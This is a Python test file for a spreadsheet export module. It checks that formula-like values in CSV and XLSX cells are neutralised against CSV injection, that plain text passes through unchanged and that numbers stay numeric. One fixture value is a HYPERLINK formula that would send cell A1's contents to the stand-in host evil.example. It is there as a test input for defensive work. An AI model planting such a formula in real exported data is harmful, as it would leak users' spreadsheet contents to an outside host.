"""Exported cells that a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from shared import exports

TYPED = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Ашу")',
    "+77011234567",
    "-x",
    "@SUM(A1:A2)",
    "\tқадам",
    "\rжол",
]
PLAIN = ["Әлихан Нұрланұлы", "a-b", "x=1", "", "'already"]


@pytest.mark.parametrize("value", TYPED)
def test_formula_like_values_are_quoted_in_csv(value: str) -> None:
    assert exports.formula_like(value)
    assert exports.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_other_texts_are_written_as_they_are(value: str) -> None:
    assert not exports.formula_like(value)
    assert exports.csv_cell(value) == value


def test_numbers_and_none_are_not_texts() -> None:
    assert exports.csv_cell(-1.5) == "-1.5"
    assert exports.csv_cell(3) == "3"
    assert exports.csv_cell(None) == ""
    assert exports.csv_cell(True) == "true"


def test_a_csv_document_reads_back_with_the_csv_module() -> None:
    text = exports.csv_text(["name", "score"], [[value, -2] for value in TYPED])
    assert text.startswith(exports.BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(exports.BOM), newline="")))
    assert rows[0] == ["name", "score"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in TYPED]
    assert {row[1] for row in rows[1:]} == {"-2"}


def test_xlsx_rows_keep_typed_texts_as_strings_and_numbers_as_numbers() -> None:
    book = Workbook()
    sheet = book.active
    for value in TYPED:
        exports.xlsx_append(sheet, [value, 9.5, None, "bad\x01byte"])
    out = io.BytesIO()
    book.save(out)
    loaded = load_workbook(io.BytesIO(out.getvalue())).active
    for row, value in zip(loaded.iter_rows(), TYPED, strict=True):
        typed, number, empty, stray = row
        assert typed.data_type == "s"
        # As typed (XML reads a carriage return back as a line feed: still text, never a formula).
        assert typed.value == value.replace("\r", "\n")
        assert number.data_type == "n" and number.value == 9.5
        assert empty.value is None
        assert stray.value == "badbyte"
